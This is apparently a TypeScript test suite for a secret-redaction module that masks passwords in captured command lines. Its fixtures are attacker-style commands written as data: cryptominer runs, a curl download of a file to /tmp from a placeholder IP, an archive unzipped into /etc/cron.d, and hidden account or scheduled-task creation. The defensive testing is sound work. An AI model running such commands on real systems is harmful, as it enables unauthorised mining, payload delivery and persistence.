import assert from 'node:assert/strict';
import { test } from 'node:test';
import { redactCommandLine, redactText } from '#shared/classify/redact.ts';

const KEEP = (): boolean => false;
const SECRET = 'Hunter2hunter';

const HIDDEN: readonly (readonly [string, string])[] = [
  [`xmrig -kp${SECRET} -o h:3333`, 'xmrig -kp[redacted] -o h:3333'],
  [`xmrig -kBp${SECRET} -o h:3333`, 'xmrig -kBp[redacted] -o h:3333'],
  [`xmrig -kBp ${SECRET} -o h:3333`, 'xmrig -kBp [redacted] -o h:3333'],
  [`xmrig -kOu:${SECRET} -o h:3333`, 'xmrig -kOu:[redacted] -o h:3333'],
  [`xmrig -kO u:${SECRET} -o h:3333`, 'xmrig -kO u:[redacted] -o h:3333'],
  [`minerd -qp ${SECRET}`, 'minerd -qp [redacted]'],
  [`minerd -qO u:${SECRET}`, 'minerd -qO u:[redacted]'],
  [`curl -suu:${SECRET} -o /tmp/x http://198.51.100.7/x`, 'curl -suu:[redacted] -o /tmp/x http://198.51.100.7/x'],
  [`unzip -P${SECRET} /tmp/a.zip -d /etc/cron.d`, 'unzip -P[redacted] /tmp/a.zip -d /etc/cron.d'],
  ['unzip -PHunter2secret /tmp/a.zip', 'unzip -P[redacted] /tmp/a.zip'],
  [`ldapsearch -w${SECRET} -x`, 'ldapsearch -w[redacted] -x'],
  [`ldapsearch -xw ${SECRET} -b dc=x`, 'ldapsearch -xw [redacted] -b dc=x'],
  [`minerd -Dp ${SECRET} -o h:3333`, 'minerd -Dp [redacted] -o h:3333'],
  [`unzip -oP${SECRET} /tmp/a.zip -d /etc/cron.d`, 'unzip -oP[redacted] /tmp/a.zip -d /etc/cron.d'],
  [`unzip -qoP ${SECRET} /tmp/a.zip -d /etc/cron.d`, 'unzip -qoP [redacted] /tmp/a.zip -d /etc/cron.d'],
  ['zip -rPHunter2secret /tmp/a.zip /srv', 'zip -rP[redacted] /tmp/a.zip /srv'],
  [`mysql -BNp${SECRET} shop`, 'mysql -BNp[redacted] shop'],
  [`useradd -mop ${SECRET} x`, 'useradd -mop [redacted] x'],
  ['schtasks /create /ru u /rp Hunter2secret /sc minute', 'schtasks /create /ru u /rp [redacted] /sc minute'],
  ['schtasks.exe /Create /S h /U u /P Hunter2secret', 'schtasks.exe /Create /S h /U u /P [redacted]'],
  ['schtasks /create /p /rp Hunter2secret /tn x', 'schtasks /create /p /rp [redacted] /tn x'],
  ['net user x Hunter2secret /add', 'net user x [redacted] /add'],
  ['xmrig --userp=u:Hunter2secret -o h:3333', 'xmrig --userp=u:[redacted] -o h:3333'],
];

for (const [line, shown] of HIDDEN) {
  test(`hides the secret of ${line}`, () => {
    assert.equal(redactCommandLine(line.split(' '), KEEP).join(' '), shown);
    assert.equal(redactText(line, KEEP), shown);
  });
}

for (const line of [
  'rsync -qp /tmp/a /etc/b',
  'scp -p /tmp/a host:/b',
  'xmrig -kB -o h:3333',
  'curl -su x http://198.51.100.7/',
  'ps -Sp 12',
  'java -Dpath=/srv/app -jar a.jar',
  'unzip -qo /tmp/a.zip -d /srv/P/x',
  'unzip -d/srv/Port /tmp/a.zip',
  'zip -r /tmp/a.zip /srv',
  'tar -xf /p /rp -C /srv',
  'schtasks /create /tn p /tr C:/a.exe /sc minute',
  'net user x /delete',
  'net user /domain',
  'xmrig --user=wallet.rig1 -o h:3333',
]) {
  test(`shows ${line} whole`, () => {
    assert.equal(redactCommandLine(line.split(' '), KEEP).join(' '), line);
    assert.equal(redactText(line, KEEP), line);
  });
}

const ASSIGNED: readonly (readonly [string, string])[] = [
  ['P=Hunter2secret; ./a -o h:3333 --pass $P', 'P=[redacted]; ./a -o h:3333 --pass [redacted]'],
  ['X="Hunter2secret two"; ./a -o h:3333 -p "$X"', 'X="[redacted]"; ./a -o h:3333 -p "[redacted]"'],
  ['A=Hunter2secret; B=$A; curl -u u:$B http://h/', 'A=[redacted]; B=[redacted]; curl -u u:[redacted] http://h/'],
];

for (const [line, shown] of ASSIGNED) {
  test(`hides what a variable of a secret holds: ${line}`, () => {
    assert.equal(redactText(line, KEEP), shown);
    assert.equal(redactText(shown, KEEP), shown);
    assert.deepEqual(redactCommandLine(['sh', '-c', line], KEEP), ['sh', '-c', shown]);
  });
}

for (const line of ['U=h:3333; ./a -o $U -p x', 'N=4; ./a -t $N', 'echo $HOME; D=/srv; ls $D']) {
  test(`shows what a variable of no secret holds: ${line}`, () => {
    const value = /=([^;]+)/.exec(line)?.[1] ?? '';
    assert.ok(redactText(line, KEEP).includes(`=${value}`));
  });
}
